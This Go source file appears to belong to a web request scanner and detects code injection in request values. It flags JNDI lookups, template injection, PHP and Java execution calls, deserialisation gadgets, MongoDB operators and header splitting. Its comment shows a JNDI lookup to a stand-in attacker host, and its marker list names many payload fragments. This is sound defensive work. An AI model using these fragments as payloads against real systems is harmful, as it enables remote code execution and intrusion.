package detect

import (
	"strings"

	"bartizan/internal/request"
	"bartizan/internal/signal"
)

// Code injection: languages other than the shell's, reported as command injection.
//
// Catches JNDI lookups, server-side templates and includes, PHP, OGNL and Java
// calls, serialised objects and pollution of prototypes and class loaders.
// Misses gadgets that look like data.
//
// Example: ${jndi:ldap://evil.example/a}
func (d *Detector) code(s *scan) finding {
	low := s.lower()
	for _, m := range codeMarks {
		i := strings.Index(low, m.text)
		if i < 0 {
			continue
		}
		if m.band == signal.Certain && (s.value.In == request.InHeader || s.value.In == request.InCookie) {
			return finding{signal.CommandInjection, m.band, i} // nobody writes prose there
		}
		return finding{signal.CommandInjection, s.limit(m.band), i}
	}
	if i := operator(low); i >= 0 && s.value.In.Name() && s.value.In != request.InJSONKey {
		return finding{signal.SQLInjection, signal.Likely, i}
	}
	if i := template(low); i >= 0 {
		return finding{signal.CommandInjection, s.limit(signal.Likely), i}
	}
	if splitsHeader(low) {
		return finding{signal.Smuggling, s.limit(signal.Likely), 0}
	}
	return finding{}
}

func codeGate(s *scan) bool {
	g := &s.gate
	if s.value.In == request.InHeader && g.bits&(hasDollar|hasBrace|hasAngle) == 0 && g.bits&hasParen != 0 && g.bits&hasQuote == 0 && g.breaks == 0 {
		return false // what User-Agents look like
	}
	if g.words&wordSure != 0 {
		return true
	}
	return g.words&wordCode != 0 && g.bits&(hasParen|hasBrace|hasDollar|hasAngle|hasDots|hasColon|hasSlash) != 0 || g.bits&(hasBrace|hasDollar) != 0 && g.bits&(hasBrace|hasParen) != 0 ||
		g.breaks > 0 && g.bits&hasColon != 0 || g.bits&hasAngle != 0
}

// codeMarks mean code wherever they stand; the first that is found counts.
var codeMarks = [...]struct {
	text string
	band signal.Band
}{
	{"${jndi:", signal.Certain}, {"${${", signal.Certain}, {"class.module.classloader", signal.Certain},
	{"getruntime(", signal.Certain}, {"java.lang.runtime", signal.Certain}, {"java.lang.processbuilder", signal.Certain}, {"@java.lang", signal.Certain},
	{"#_memberaccess", signal.Certain}, {"@ognl.", signal.Certain}, {"t(java.lang", signal.Certain}, {"<!--#", signal.Certain}, {"<esi:", signal.Likely},
	{"__class__.__", signal.Certain}, {"__globals__", signal.Certain}, {".__mro__", signal.Certain}, {"freemarker.template.utility", signal.Certain},
	{"<?php", signal.Likely}, {"<?=", signal.Likely}, {"shell_exec(", signal.Likely}, {"passthru(", signal.Likely}, {"phpinfo(", signal.Likely}, {"proc_open(", signal.Likely}, {"base64_decode(", signal.Likely},
	{"system('", signal.Likely}, {"system(\"", signal.Likely}, {"system($_", signal.Likely}, {"eval($_", signal.Likely}, {"assert($_", signal.Likely}, {"(md5(", signal.Likely}, {"echo md5(", signal.Likely},
	{"child_process", signal.Likely}, {"__import__(", signal.Likely}, {"subprocess.", signal.Likely}, {"processbuilder", signal.Likely}, {"invokertransformer", signal.Likely}, {"instantiatetransformer", signal.Likely}, {"templatesimpl", signal.Likely}, {"unicastremoteobject", signal.Likely}, {"response.write(", signal.Likely},
	{"<!entity", signal.Likely}, {"xp_cmdshell", signal.Likely}, {"<%=", signal.Likely}, {"<%@", signal.Likely}, {"org.apache.commons.collections", signal.Likely}, {"__proto__", signal.Hint}, {"auto_prepend_file", signal.Likely},
	{"ysoserial", signal.Certain}, {"rememberme=1", signal.Hint}, {"ro0abx", signal.Likely}, {"aced0005", signal.Likely},
}

// serialised reports whether the value begins as a serialised object does:
// base64 of Java's stream header or of Python's pickle.
func serialised(s string) bool {
	return len(s) > 24 && (s[0] == 'r' && s[:5] == "rO0AB" || s[0] == 'g' && s[:4] == "gASV")
}

// operator finds an operator of MongoDB in a parameter's name: user[$ne].
func operator(s string) int {
	i := strings.Index(s, "[$")
	if i < 0 || !oneOf(wordAt(s, i+2), "ne", "eq", "gt", "gte", "lt", "lte", "in", "nin", "regex", "where", "exists", "or", "and", "not", "expr") {
		return -1
	}
	return i
}

// template finds an expression that computes something: {{7*7}}, ${7*7}, #{...}.
func template(s string) int {
	for i := 0; i+1 < len(s); i++ {
		var inner string
		switch {
		case hasAt(s, i, "{{"):
			inner, _, _ = strings.Cut(ahead(s, i+2), "}}")
		case (s[i] == '$' || s[i] == '#' || s[i] == '*' || s[i] == '@' || s[i] == '%') && s[i+1] == '{':
			inner, _, _ = strings.Cut(ahead(s, i+2), "}")
		default:
			continue
		}
		if computes(inner) {
			return i
		}
		i += 1 + max(0, len(inner)-32) // what begins inside has been seen with it
	}
	return -1
}

// computes reports whether an expression multiplies numbers or calls into internals.
func computes(e string) bool {
	if i := strings.IndexByte(e, '*'); i > 0 && i+1 < len(e) {
		a, b := strings.TrimRight(e[:i], " '"), strings.TrimLeft(e[i+1:], " '")
		if a != "" && b != "" && a[len(a)-1]-'0' < 10 && b[0]-'0' < 10 {
			return true
		}
	}
	for _, w := range [...]string{"constructor", "__class__", "config.", "self.", "request.application", "runtime", "cycler.", "lipsum.", "getclass", "sys_popen", "system(", "_self.env", "env.register", ".exec(", "forname("} {
		if strings.Contains(e, w) {
			return true
		}
	}
	return false
}

// splitsHeader reports whether the value ends a header line and begins another.
func splitsHeader(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] != '\n' && s[i] != '\r' {
			continue
		}
		n := skip(s, i, "\r\n ")
		for _, h := range [...]string{"set-cookie:", "location:", "content-length:", "content-type:", "http/1.", "transfer-encoding:", "x-forwarded-for:"} {
			if hasAt(s, n, h) {
				return true
			}
		}
		i = max(i, n-1)
	}
	return false
}
